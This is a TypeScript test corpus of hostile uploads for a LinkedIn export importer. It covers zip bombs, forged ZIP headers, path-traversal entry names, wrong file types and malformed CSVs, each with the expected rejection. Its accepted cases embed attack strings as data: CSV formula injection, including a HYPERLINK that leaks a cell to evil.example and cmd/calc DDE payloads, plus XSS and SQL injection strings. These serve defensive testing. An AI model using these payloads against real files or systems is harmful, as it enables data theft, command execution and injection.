/**
 * The hostile-export corpus: each case is an upload (bytes + the name the subscriber gave it), the
 * parser limits it runs under (lowered where a limit keeps a big input small), and what must happen.
 */
import { randomBytes } from 'node:crypto';
import type { ExportErrorCode, ExportLimits } from '../../../domain/linkedin-export/types.ts';
import {
  CONNECTIONS_HEADER,
  connectionsCsv,
  elf,
  gzip,
  incompressibleConnections,
  incompressibleInvitations,
  INVITATIONS_HEADER,
  lines,
  manyConversations,
  messagesCsv,
  mojibake,
  pdf,
  person,
  png,
  poisonConnectionRows,
  PREAMBLE,
  utf16beBom,
  utf16leBom,
  utf16leNoBom,
  URL_LESS_CONNECTIONS_HEADER,
  utf8Bom,
  wideRow,
  windows1252,
} from './files.ts';
import {
  COMPRESSED_SIZE,
  emptyZip,
  FLAGS,
  garbledData,
  manyEntries,
  METHOD,
  overlappingEntries,
  patchHeaders,
  UNCOMPRESSED_SIZE,
  utf8,
  withClaimedEntryCount,
  withZip64EntryCount,
  zip,
} from './zip.ts';

/** A stored connection as the accepted cases see it. */
export interface StoredConnection {
  match_key: string;
  first_name: string;
  last_name: string;
  company: string;
  position: string;
  email: string | null;
}

export interface AcceptedImport {
  connections: StoredConnection[];
  connectionsInSummary: number;
  rejectedRows: number;
}

export type ExportExpectation =
  /** runImport reports this code, the exports row holds a plain-words reason, nothing else changes. */
  | { kind: 'rejected'; code: ExportErrorCode }
  /** storeUpload refuses it before anything is stored. */
  | { kind: 'refused-at-store'; code: ExportErrorCode }
  /**
   * Either a clear refusal or an import that leaves the subscriber's network as it was: a file
   * with no readable connection must never empty someone's network.
   */
  | { kind: 'keeps-data' }
  /** Imported (into a fresh subscriber), hostile content kept as inert text or rejected row by row. */
  | { kind: 'accepted'; check: (imported: AcceptedImport) => void | Promise<void> };

export interface ExportCase {
  name: string;
  group: 'zip' | 'file type' | 'csv';
  fileName: string;
  bytes: () => Uint8Array | string;
  limits?: Partial<ExportLimits>;
  /** The cap storeUpload gets (the web route passes MAX_UPLOAD_MB). */
  storeMaxBytes?: number;
  expect: ExportExpectation;
}

const CONNECTIONS = connectionsCsv(3);
const rejected = (code: ExportErrorCode): ExportExpectation => ({ kind: 'rejected', code });
/** Big enough to matter, small enough to be fast: cells past this are "huge". */
const SMALL_FIELD_LIMIT = { maxFieldBytes: 100_000 };

export function exportCases(): ExportCase[] {
  return [
    // --- zips -------------------------------------------------------------------------------
    {
      name: 'zip bomb by ratio: one entry of 4 MB of "a" (about 1000:1)',
      group: 'zip',
      fileName: 'Basic_LinkedInDataExport.zip',
      bytes: () => zip({ 'Connections.csv': `${CONNECTIONS_HEADER}\n${'a'.repeat(4 * 1024 * 1024)}` }, 9),
      expect: rejected('compression_ratio'),
    },
    {
      name: 'poison upload: a zip whose Connections.csv has 150,000 short URL-less rows (LinkedIn caps at 30,000) is refused at 100,000 rows',
      group: 'zip',
      fileName: 'Complete_LinkedInDataExport.zip',
      bytes: () => zip({ 'Connections.csv': `${URL_LESS_CONNECTIONS_HEADER}\n${poisonConnectionRows(150_000)}` }),
      expect: rejected('too_many_rows'),
    },
    {
      name: 'poison upload: a lone Connections.csv of 100,001 rows is refused',
      group: 'zip',
      fileName: 'Connections.csv',
      bytes: () => `${URL_LESS_CONNECTIONS_HEADER}\n${poisonConnectionRows(100_001)}`,
      expect: rejected('too_many_rows'),
    },
    {
      name: 'a messages.csv over its row limit (lowered to 2,000) is refused',
      group: 'zip',
      fileName: 'Complete_LinkedInDataExport.zip',
      bytes: () => zip({ 'Connections.csv': connectionsCsv(5), 'messages.csv': messagesCsv(2_500) }),
      limits: { maxRows: { messages: 2_000 } },
      expect: rejected('too_many_rows'),
    },
    {
      name: 'more people and conversations than the parser tracks (lowered to 5,000) are refused, whatever the row limits',
      group: 'zip',
      fileName: 'Complete_LinkedInDataExport.zip',
      bytes: () => zip({ 'Connections.csv': connectionsCsv(5), 'messages.csv': manyConversations(3_000) }),
      limits: { maxTrackedEntries: 5_000 },
      expect: rejected('too_much_data'),
    },
    {
      name: 'zip bomb by total size: the entries Rapport reads inflate past the cap',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => zip({ 'Connections.csv': incompressibleConnections(300), 'Invitations.csv': incompressibleInvitations(2000) }),
      limits: { maxUncompressedBytes: 40_000 },
      expect: rejected('uncompressed_too_large'),
    },
    {
      name: 'overlapping entries: 60 central records pointing at one local file',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () =>
        overlappingEntries(
          'messages.csv',
          utf8(messagesCsv(400)),
          Array.from({ length: 60 }, (_, i) => `messages_${i + 1}.csv`),
        ),
      limits: { maxUncompressedBytes: 1_000_000 },
      expect: rejected('uncompressed_too_large'),
    },
    {
      name: 'declared uncompressed size lies low (100 bytes)',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => patchHeaders(zip({ 'Connections.csv': incompressibleConnections(50) }), UNCOMPRESSED_SIZE, () => 100),
      expect: rejected('corrupt_zip'),
    },
    {
      name: 'declared uncompressed size lies high (one byte more)',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => patchHeaders(zip({ 'Connections.csv': incompressibleConnections(50) }), UNCOMPRESSED_SIZE, (old) => old + 1),
      expect: rejected('corrupt_zip'),
    },
    {
      name: 'declared compressed size lies low (the stream is cut short)',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => patchHeaders(zip({ 'Connections.csv': incompressibleConnections(50) }), COMPRESSED_SIZE, () => 64),
      expect: rejected('corrupt_zip'),
    },
    {
      name: 'more than 10,000 entries (10,001 plus Connections.csv)',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => manyEntries(10_001, { 'Connections.csv': CONNECTIONS }),
      expect: rejected('too_many_entries'),
    },
    {
      name: 'ZIP64 end record claiming 2^40 entries',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => withZip64EntryCount(zip({ 'Connections.csv': CONNECTIONS }), 2n ** 40n),
      expect: rejected('too_many_entries'),
    },
    {
      name: 'ZIP64 sentinel (0xffffffff) in the uncompressed size without the extra field',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => patchHeaders(zip({ 'Connections.csv': CONNECTIONS }), UNCOMPRESSED_SIZE, () => 0xffffffff),
      expect: rejected('corrupt_zip'),
    },
    {
      name: 'ZIP64 sentinel (0xffffffff) in the compressed size without the extra field',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => patchHeaders(zip({ 'Connections.csv': CONNECTIONS }), COMPRESSED_SIZE, () => 0xffffffff),
      expect: rejected('corrupt_zip'),
    },
    {
      name: 'end record claims 500 entries but the directory holds 1',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => withClaimedEntryCount(zip({ 'Connections.csv': CONNECTIONS }), 500),
      expect: rejected('corrupt_zip'),
    },
    {
      name: 'nested zip: the export zipped inside another zip',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => zip({ 'Connections.zip': zip({ 'Connections.csv': CONNECTIONS }) }),
      expect: rejected('no_usable_files'),
    },
    {
      name: 'a zip stored under the name Connections.csv inside the zip',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => zip({ 'Connections.csv': zip({ 'Connections.csv': incompressibleConnections(40) }, 6) }, 0),
      expect: rejected('no_usable_files'),
    },
    ...(
      [
        ['../Connections.csv', 'parent-directory entry name'],
        ['/etc/Connections.csv', 'absolute entry name'],
        ['C:\\Connections.csv', 'Windows drive entry name'],
        ['..\\..\\Windows\\Connections.csv', 'backslash traversal entry name'],
        ['export/../../Connections.csv', 'traversal in the middle of an entry name'],
        ['Connections.csv\0.txt', 'NUL byte in an entry name'],
      ] as const
    ).map(
      ([entry, label]): ExportCase => ({
        name: `${label}: ${JSON.stringify(entry)}`,
        group: 'zip',
        fileName: 'export.zip',
        bytes: () => zip({ 'Connections.csv': CONNECTIONS, [entry]: 'x' }),
        expect: rejected('unsafe_path'),
      }),
    ),
    {
      name: 'encrypted entry (general-purpose bit 0)',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => patchHeaders(zip({ 'Connections.csv': CONNECTIONS }), FLAGS, (flags) => flags | 1),
      expect: rejected('encrypted'),
    },
    {
      name: 'strongly encrypted entry (bits 0 and 6)',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => patchHeaders(zip({ 'Connections.csv': CONNECTIONS }), FLAGS, (flags) => flags | 0x41),
      expect: rejected('encrypted'),
    },
    {
      name: 'unsupported compression method (bzip2, 12)',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => patchHeaders(zip({ 'Connections.csv': CONNECTIONS }), METHOD, () => 12),
      expect: rejected('corrupt_zip'),
    },
    {
      name: 'truncated zip (second half missing)',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => {
        const whole = zip({ 'Connections.csv': incompressibleConnections(100) });
        return whole.subarray(0, Math.floor(whole.length / 2));
      },
      expect: rejected('corrupt_zip'),
    },
    {
      name: 'garbled deflate stream',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => garbledData(zip({ 'Connections.csv': incompressibleConnections(50) })),
      expect: rejected('corrupt_zip'),
    },
    {
      name: 'a zip signature followed by random bytes',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), randomBytes(4000)]),
      expect: rejected('corrupt_zip'),
    },
    { name: 'empty zip (end record only)', group: 'zip', fileName: 'export.zip', bytes: emptyZip, expect: rejected('no_usable_files') },
    {
      name: 'zip without any file Rapport reads',
      group: 'zip',
      fileName: 'export.zip',
      bytes: () => zip({ 'Skills.csv': 'Name\nSQL\n', 'Rich_Media.csv': 'Type,Link\n', 'photo.jpg': randomBytes(500) }),
      expect: rejected('no_usable_files'),
    },
    {
      name: 'an .xlsx workbook renamed Connections.csv',
      group: 'zip',
      fileName: 'Connections.csv',
      bytes: () => zip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>', 'xl/worksheets/sheet1.xml': '<worksheet/>' }),
      expect: rejected('no_usable_files'),
    },

    // --- wrong file types and encodings ----------------------------------------------------------
    { name: 'a PDF renamed .zip', group: 'file type', fileName: 'Basic_LinkedInDataExport.zip', bytes: pdf, expect: rejected('not_zip_or_csv') },
    { name: 'a PNG renamed .csv', group: 'file type', fileName: 'Connections.csv', bytes: png, expect: rejected('not_zip_or_csv') },
    { name: 'an ELF executable renamed .csv', group: 'file type', fileName: 'Connections.csv', bytes: elf, expect: rejected('not_zip_or_csv') },
    { name: 'a .tar.gz renamed .zip', group: 'file type', fileName: 'export.zip', bytes: gzip, expect: rejected('not_zip_or_csv') },
    { name: 'random binary', group: 'file type', fileName: 'export.zip', bytes: () => randomBytes(8192), expect: rejected('not_zip_or_csv') },
    { name: 'empty file', group: 'file type', fileName: 'Connections.csv', bytes: () => new Uint8Array(0), expect: rejected('no_header') },
    { name: 'only a UTF-8 BOM', group: 'file type', fileName: 'Connections.csv', bytes: () => utf8Bom(), expect: rejected('no_header') },
    { name: 'only a UTF-16LE BOM', group: 'file type', fileName: 'Connections.csv', bytes: () => utf16leBom(), expect: rejected('no_header') },
    { name: 'UTF-16LE without a BOM', group: 'file type', fileName: 'Connections.csv', bytes: () => utf16leNoBom(CONNECTIONS), expect: rejected('not_zip_or_csv') },
    { name: 'UTF-16BE with its BOM', group: 'file type', fileName: 'Connections.csv', bytes: () => utf16beBom(CONNECTIONS), expect: rejected('not_zip_or_csv') },
    {
      name: 'NUL bytes inside the CSV text',
      group: 'file type',
      fileName: 'Connections.csv',
      bytes: () => lines(CONNECTIONS_HEADER, person('nul-1', 'Ja\0ne', 'Doe')),
      expect: rejected('not_zip_or_csv'),
    },
    {
      name: 'upload over the size cap (3 MB against 1 MB)',
      group: 'file type',
      fileName: 'Connections.csv',
      bytes: () => connectionsCsv(1).padEnd(3 * 1024 * 1024, '\n'),
      storeMaxBytes: 1024 * 1024,
      expect: { kind: 'refused-at-store', code: 'too_large' },
    },
    {
      name: 'upload over the parser size cap',
      group: 'file type',
      fileName: 'Connections.csv',
      bytes: () => connectionsCsv(100),
      limits: { maxUploadBytes: 2000 },
      expect: rejected('too_large'),
    },

    // --- broken CSV --------------------------------------------------------------------------
    {
      name: 'unclosed quote in the first data row',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => PREAMBLE + lines(CONNECTIONS_HEADER, `"Jane,Doe,https://www.linkedin.com/in/jane,,Acme,Engineer,09 Sep 2022`, person('after-1'), person('after-2')),
      expect: { kind: 'keeps-data' },
    },
    {
      name: 'unclosed quote that runs past the field limit',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => lines(CONNECTIONS_HEADER, `"Jane,Doe,${'x'.repeat(300_000)}`, person('after')),
      limits: SMALL_FIELD_LIMIT,
      expect: rejected('field_too_large'),
    },
    {
      name: 'a huge unquoted cell (scaled-down 50 MB cell against a 100 KB field limit)',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => lines(CONNECTIONS_HEADER, `Jane,${'D'.repeat(300_000)},https://www.linkedin.com/in/jane,,Acme,Engineer,09 Sep 2022`),
      limits: SMALL_FIELD_LIMIT,
      expect: rejected('field_too_large'),
    },
    {
      name: 'a huge quoted cell inside a zip entry',
      group: 'csv',
      fileName: 'export.zip',
      // Random hex: it deflates about 2:1, so the field limit trips before the ratio cap.
      bytes: () => zip({ 'Connections.csv': lines(CONNECTIONS_HEADER, `Jane,"${randomBytes(150_000).toString('hex')}",https://www.linkedin.com/in/jane,,Acme,Engineer,09 Sep 2022`) }),
      limits: SMALL_FIELD_LIMIT,
      expect: rejected('field_too_large'),
    },
    {
      name: 'header only, no rows',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => PREAMBLE + CONNECTIONS_HEADER + '\n',
      expect: { kind: 'keeps-data' },
    },
    {
      name: 'a header of 100,000 columns and rows that cannot match it',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => lines(`${CONNECTIONS_HEADER},${Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',')}`, person('wide-1'), person('wide-2')),
      expect: { kind: 'keeps-data' },
    },
    {
      name: 'the wrong file of the export: a lone Invitations.csv',
      group: 'csv',
      fileName: 'Invitations.csv',
      bytes: () => lines(INVITATIONS_HEADER, 'Ada Example,Bob Example,1/2/24 10:00 AM,,OUTGOING'),
      expect: { kind: 'keeps-data' },
    },
    {
      name: 'a CSV of something else (no known header)',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => lines('Name,Age,Favourite Colour', 'Jane,40,Blue', 'John,41,Green'),
      expect: rejected('no_header'),
    },
    {
      name: 'the header below eleven junk rows',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => lines(...Array.from({ length: 11 }, (_, i) => `junk ${i}`), CONNECTIONS_HEADER, person('late-1')),
      expect: rejected('no_header'),
    },
    {
      name: 'pipe-delimited file',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => lines(CONNECTIONS_HEADER.replaceAll(',', '|'), person('pipe-1').replaceAll(',', '|')),
      expect: rejected('no_header'),
    },

    // --- accepted with hostile content, each into a fresh subscriber -------------------------------
    {
      name: 'CSV formula cells (=HYPERLINK, +cmd, @SUM, -2+3) are stored as plain text',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () =>
        PREAMBLE +
        lines(
          CONNECTIONS_HEADER,
          `"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",Doe,https://www.linkedin.com/in/formula-1,,Acme,Engineer,09 Sep 2022`,
          `+cmd|' /C calc'!A0,Roe,https://www.linkedin.com/in/formula-2,,"=1+1",Engineer,09 Sep 2022`,
          `@SUM(1+1)*cmd|' /C calc'!A0,Poe,https://www.linkedin.com/in/formula-3,,Acme,-2+3,09 Sep 2022`,
          `"\t=1+2",Moe,https://www.linkedin.com/in/formula-4,,Acme,Engineer,09 Sep 2022`,
        ),
      expect: {
        kind: 'accepted',
        check: ({ connections }) => {
          const byKey = new Map(connections.map((c) => [c.match_key, c]));
          const first = (slug: string) => byKey.get(`linkedin.com/in/${slug}`)?.first_name;
          assertEqual(first('formula-1'), '=HYPERLINK("http://evil.example/?leak="&A1,"Click")');
          assertEqual(first('formula-2'), "+cmd|' /C calc'!A0");
          assertEqual(byKey.get('linkedin.com/in/formula-2')?.company, '=1+1');
          assertEqual(first('formula-3'), "@SUM(1+1)*cmd|' /C calc'!A0");
          assertEqual(byKey.get('linkedin.com/in/formula-3')?.position, '-2+3');
          assertEqual(connections.length, 4);
        },
      },
    },
    {
      name: 'Windows-1252 bytes (Excel "CSV" save) decode to the right names',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => windows1252(lines(CONNECTIONS_HEADER, person('cp1252-1', 'José', 'Müller', 'Société Générale'), person('cp1252-2', 'Zoë', 'Ærøskøbing'))),
      expect: {
        kind: 'accepted',
        check: ({ connections }) => {
          assertEqual(connections.map((c) => `${c.first_name} ${c.last_name} ${c.company}`).sort().join('|'), 'José Müller Société Générale|Zoë Ærøskøbing Acme');
        },
      },
    },
    {
      name: 'mojibake (UTF-8 saved again as if Latin-1) is kept as text, no crash',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => lines(CONNECTIONS_HEADER, person('moji-1', mojibake('José'), mojibake('Ñúñez')), person('moji-2', mojibake('Łukasz'), mojibake('Żółć'))),
      expect: {
        kind: 'accepted',
        check: ({ connections }) => {
          assertEqual(connections.length, 2);
          assertEqual(connections.find((c) => c.match_key.endsWith('moji-1'))?.first_name, 'JosÃ©');
        },
      },
    },
    {
      name: 'a header-like row in the middle of the file is not imported as a person',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => PREAMBLE + lines(CONNECTIONS_HEADER, person('mid-1'), CONNECTIONS_HEADER, person('mid-2')),
      expect: {
        kind: 'accepted',
        check: ({ connections }) => {
          assertEqual(connections.map((c) => c.match_key).sort().join(','), 'linkedin.com/in/mid-1,linkedin.com/in/mid-2');
        },
      },
    },
    {
      name: 'a row of 100,000 columns is rejected, the rows around it imported',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => lines(CONNECTIONS_HEADER, person('around-1'), wideRow(100_000, 'zz'), person('around-2')),
      expect: {
        kind: 'accepted',
        check: ({ connections, rejectedRows }) => {
          assertEqual(connections.map((c) => c.match_key).sort().join(','), 'linkedin.com/in/around-1,linkedin.com/in/around-2');
          assertEqual(rejectedRows, 1);
        },
      },
    },
    {
      name: 'NUL bytes past the 64 KB the type sniffer reads',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => lines(CONNECTIONS_HEADER, ...Array.from({ length: 900 }, (_, i) => person(`pad-${i}`, `Pad${i}`)), person('nul-late', 'Ev\0e', 'N\0ul')),
      expect: {
        kind: 'accepted',
        check: ({ connections }) => {
          if (connections.some((c) => `${c.first_name}${c.last_name}`.includes('\0'))) throw new Error('a NUL byte reached the database');
          assertEqual(connections.length >= 900, true);
        },
      },
    },
    {
      name: 'invalid UTF-8 sequences past the encoding sniffer',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () =>
        Buffer.concat([
          Buffer.from(lines(CONNECTIONS_HEADER, ...Array.from({ length: 900 }, (_, i) => person(`bad-${i}`, `Bad${i}`))) + '\n'),
          Buffer.from([0x45, 0xff, 0xfe, 0xc3, 0x28, 0x2c]),
          Buffer.from('Bytes,https://www.linkedin.com/in/bad-utf8,,Acme,Engineer,09 Sep 2022\n'),
        ]),
      expect: {
        kind: 'accepted',
        check: ({ connections }) => {
          assertEqual(connections.length, 901);
          assertEqual(connections.find((c) => c.match_key === 'linkedin.com/in/bad-utf8')?.last_name, 'Bytes');
        },
      },
    },
    {
      name: 'a quoted CRLF inside a field (an Excel multi-line cell) keeps its row whole',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () =>
        [
          CONNECTIONS_HEADER,
          ...Array.from({ length: 3 }, (_, i) => `Ada${i},Example,https://www.linkedin.com/in/crlf-${i},,"Acme\r\nLabs","Head of\r\nResearch",09 Sep 2022`),
          `"Multi\r\nLine",Name,https://www.linkedin.com/in/crlf-name,,Acme,"Engineer\r\n",09 Sep 2022`,
        ].join('\r\n') + '\r\n',
      expect: {
        kind: 'accepted',
        check: ({ connections, rejectedRows }) => {
          assertEqual(rejectedRows, 0);
          assertEqual(connections.length, 4);
          const byKey = new Map(connections.map((c) => [c.match_key, c]));
          assertEqual(byKey.get('linkedin.com/in/crlf-1')?.company, 'Acme\nLabs');
          assertEqual(byKey.get('linkedin.com/in/crlf-1')?.position, 'Head of\nResearch');
          assertEqual(byKey.get('linkedin.com/in/crlf-name')?.first_name, 'Multi\nLine');
        },
      },
    },
    {
      name: 'a company name of a megabyte is kept cut to 150 characters, not whole',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => lines(CONNECTIONS_HEADER, person('long-1', 'Ada', 'Example', 'M'.repeat(1024 * 1024)), person('long-2')),
      expect: {
        kind: 'accepted',
        check: ({ connections }) => {
          assertEqual(connections.length, 2);
          assertEqual(connections.find((c) => c.match_key.endsWith('long-1'))?.company, 'M'.repeat(150));
        },
      },
    },
    {
      name: 'markup and script in names is stored as text',
      group: 'csv',
      fileName: 'Connections.csv',
      bytes: () => lines(CONNECTIONS_HEADER, person('markup-1', '<script>alert(1)</script>', '<img src=x onerror=alert(2)>'), person('markup-2', "Robert'); DROP TABLE connections;--", 'Tables')),
      expect: {
        kind: 'accepted',
        check: ({ connections }) => {
          assertEqual(connections.find((c) => c.match_key.endsWith('markup-1'))?.first_name, '<script>alert(1)</script>');
          assertEqual(connections.find((c) => c.match_key.endsWith('markup-2'))?.first_name, "Robert'); DROP TABLE connections;--");
        },
      },
    },
  ];
}

function assertEqual<T>(actual: T, expected: T): void {
  if (actual !== expected) throw new Error(`expected ${JSON.stringify(expected)}, got ${JSON.stringify(actual)}`);
}
